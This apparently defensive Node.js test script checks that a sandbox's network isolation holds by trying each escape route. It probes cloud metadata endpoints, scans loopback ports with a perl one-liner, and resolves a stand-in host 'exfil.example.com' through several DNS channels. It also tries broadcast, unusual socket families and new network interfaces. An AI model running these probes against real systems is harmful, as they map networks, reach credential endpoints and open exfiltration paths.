// Tries to reach anything but the gateway. Arguments: the host's canary port, its addresses, how the names of wanted attacks
// begin, and the only port of loopback to try.
import { spawnSync } from "node:child_process";
import { Resolver, lookup } from "node:dns/promises";
import { createSocket } from "node:dgram";
import { connect } from "node:net";
import { attempt as tryOut, sh, syscall } from "./attempt.mjs";

const [port, hostAddresses, only = "", onePort = ""] = process.argv.slice(2);
const attempt = (attack, act) => (attack.startsWith(only) ? tryOut(attack, act) : null);

/** Connects, says a request line, and returns the first line of the answer. */
function talk(where) {
  return new Promise((resolve, reject) => {
    const socket = connect({ timeout: 3_000, ...where }, () => socket.write("GET /latest/meta-data/ HTTP/1.0\r\n\r\n"));
    socket.on("data", (data) => resolve(`heard ${data}`) ?? socket.destroy());
    socket.on("error", reject).on("timeout", () => reject(new Error("silent")));
    socket.on("end", () => reject(new Error("closed")));
  });
}

/** Connects and returns what is said unasked. */
function listen(where) {
  return new Promise((resolve, reject) => {
    const socket = connect(where);
    socket.on("data", (data) => resolve(`heard ${data}`)).on("error", reject);
  });
}

function ask(server) {
  const resolver = new Resolver({ timeout: 1_000, tries: 1 });
  resolver.setServers([server]);
  return resolver.resolve4("exfil.example.com").then((found) => `heard ${found}`);
}

function broadcast(address) {
  return new Promise((resolve, reject) => {
    const socket = createSocket("udp4");
    socket.bind(0, () => {
      socket.setBroadcast(true);
      socket.send("anyone?", 5353, address, (error) => (error ? reject(error) : resolve("heard, sent")) ?? socket.close());
    });
  });
}

/** The ports on loopback that answer; a socket that meets itself there, by chance of its own port, is no answer. */
function openPorts(first, last) {
  const program = `use Socket;
    for my $port (${first}..${last}) {
      socket(my $s, PF_INET, SOCK_STREAM, 0);
      next unless connect($s, sockaddr_in($port, INADDR_LOOPBACK));
      my ($own) = sockaddr_in(getsockname($s));
      print " $port" if $own != $port;
    }`;
  return `open:${spawnSync("perl", ["-e", program], { encoding: "utf8", timeout: 30_000 }).stdout}`;
}

/** The first that is heard, or how each was refused. */
async function anyOf(addresses) {
  const refused = new Set();
  for (const host of addresses) {
    try {
      return await talk({ host, port });
    } catch (error) {
      refused.add(error.code ?? error.message);
    }
  }
  return `refused ${[...refused].join(" ")}`;
}

function anySocket(kinds) {
  const said = kinds.map(([family, type]) => syscall({ x64: 41, arm64: 198 }, family, type, 0));
  return said.find((one) => one.startsWith("ok")) ?? [...new Set(said)].join(" ");
}

await attempt("gateway", () => talk({ host: "127.0.0.1", port: 8417 }));
await attempt("host-loopback", () => talk({ host: "127.0.0.1", port }));
await attempt("host-ports", () => openPorts(Number(onePort || 1), Number(onePort || 65_535)));
await attempt("host-addresses", () => anyOf(hostAddresses.split(",")));
await attempt("host-abstract", () => listen({ path: "\0loopgate-canary" }));
for (const address of ["172.17.0.1", "10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1", "169.254.169.254",
  "169.254.170.2", "100.100.100.200", "1.1.1.1"])
  await attempt(address, () => talk({ host: address, port: 80 }));
await attempt("ipv6", () => talk({ host: "fd00:ec2::254", port: 80 }));
await attempt("neighbour", () => talk({ host: "127.0.0.1", port: 7001 }));
await attempt("dns-libc", () => lookup("exfil.example.com").then(({ address }) => `heard ${address}`));
await attempt("dns-udp", () => ask("8.8.8.8"));
await attempt("dns-engine", () => ask("127.0.0.11"));
await attempt("dns-stub", () => ask("127.0.0.53"));
await attempt("dns-tls", () => talk({ host: "8.8.8.8", port: 853 }));
await attempt("dns-tcp", () => talk({ host: "8.8.8.8", port: 53 }));
await attempt("dns-https", () => talk({ host: "8.8.8.8", port: 443 }));
await attempt("broadcast", () => broadcast("255.255.255.255"));
await attempt("multicast", () => broadcast("224.0.0.251"));
await attempt("other-sockets", () => anySocket([[40, 1], [38, 5]])); // AF_VSOCK, AF_ALG
await attempt("new-interface", () => sh("ip link add canary0 type dummy && echo added; ip addr add 10.9.9.9/32 dev lo && echo added"));
process.exit(); // a socket may be left waiting
